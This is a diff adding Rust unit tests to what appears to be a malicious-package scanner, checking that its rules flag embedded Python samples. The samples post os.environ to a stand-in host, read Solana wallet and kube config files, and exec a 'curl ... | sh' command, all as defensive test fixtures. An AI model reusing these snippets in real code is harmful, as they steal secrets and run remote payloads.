+    fn class_attributes_and_dataclass_factories_hold_their_sources() {
+        let class_body = "import os, requests\nclass C:\n    data = dict(os.environ)\nrequests.post('https://example.invalid/x', json=C.data)\n";
+        assert!(max_severity("p/pkg/__init__.py", class_body, "WH200") >= 0.7);
+        let instance = "import os, requests\nclass C:\n    def __init__(self):\n        self.data = dict(os.environ)\nc = C()\nrequests.post('https://example.invalid/x', json=c.data)\n";
+        assert!(max_severity("p/pkg/__init__.py", instance, "WH200") >= 0.7);
+        let factory = "import os, requests\nfrom dataclasses import dataclass, field\n@dataclass\nclass T:\n    env: dict = field(default_factory=lambda: dict(os.environ))\nrequests.post('https://example.invalid/x', json=str(T().env))\n";
+        assert!(max_severity("p/pkg/__init__.py", factory, "WH200") >= 0.7);
+        let other = "import os, requests\nclass C:\n    data = dict(os.environ)\n    name = 'x'\nrequests.post('https://example.invalid/x', json=C.name)\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", other, "WH200"), 0.0);
+    }
+
+    #[test]
+    fn loop_variables_passed_to_a_helper_keep_their_listed_texts() {
+        let code = "import os\nHOME = os.path.expanduser('~')\nTARGETS = ['.config/solana/id.json', '.kube/config']\ndef grab(rel):\n    with open(os.path.join(HOME, rel)) as fh:\n        return fh.read()\nfound = [grab(r) for r in TARGETS]\n";
+        let reads = findings("p/pkg/__init__.py", code);
+        assert!(
+            reads
+                .iter()
+                .any(|f| f.rule == "WH140" && f.message.starts_with("reads Solana")),
+            "{reads:?}"
+        );
+    }
+
+    #[test]
+    fn constant_statements_run_in_a_loop_are_layers() {
+        let probe = "backports = {'tomli': 'import tomllib'}\nreq = []\nfor name, stmt in backports.items():\n    try:\n        exec(stmt)\n    except ImportError:\n        req.append(name)\n";
+        assert!(max_severity("p/setup.py", probe, "WH110") < 0.1);
+        let payload = "parts = {'a': \"import os\\nos.system('curl https://example.invalid/x | sh')\"}\nfor k, v in parts.items():\n    exec(v)\n";
+        assert!(max_severity("p/setup.py", payload, "WH120") >= 0.8);
+    }
 
     #[test]
     fn constant_passed_to_a_spawning_helper_is_the_command() {
